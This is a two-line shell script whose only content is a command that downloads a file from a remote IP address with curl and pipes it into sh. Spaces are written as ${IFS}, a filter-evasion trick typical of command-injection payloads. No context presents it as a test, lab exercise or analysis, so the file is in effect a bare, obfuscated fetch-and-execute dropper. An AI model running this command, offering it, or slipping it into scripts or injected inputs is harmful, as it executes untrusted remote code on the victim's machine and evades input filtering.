#!/bin/sh
curl${IFS}-s${IFS}https://203.0.113.9/x|sh
